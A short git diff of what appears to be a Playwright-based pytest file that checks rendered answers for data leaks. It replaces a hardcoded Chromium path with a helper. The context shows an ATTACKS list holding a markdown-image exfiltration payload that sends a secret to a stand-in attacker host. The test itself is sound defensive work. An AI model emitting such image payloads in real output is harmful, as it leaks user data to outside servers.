@@ -15,6 +15,7 @@ import pytest
 from playwright.sync_api import Page, sync_playwright
 
 from core.documents.answers.plain import plain, stripped
+from tests.prepare import browser as browser_path
 
 ATTACKS = [
     "![x](http://evil.example/p.png?d=SECRET)",
@@ -90,7 +91,7 @@ def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Page, li
     try:
         _wait_for(port)
         with sync_playwright() as playwright:
-            chromium = playwright.chromium.launch(executable_path="/usr/bin/chromium", args=["--no-sandbox"])
+            chromium = playwright.chromium.launch(executable_path=browser_path(), args=["--no-sandbox"])
             tab = chromium.new_page()
             asked: list[str] = []
             tab.on("request", lambda request: asked.append(request.url))
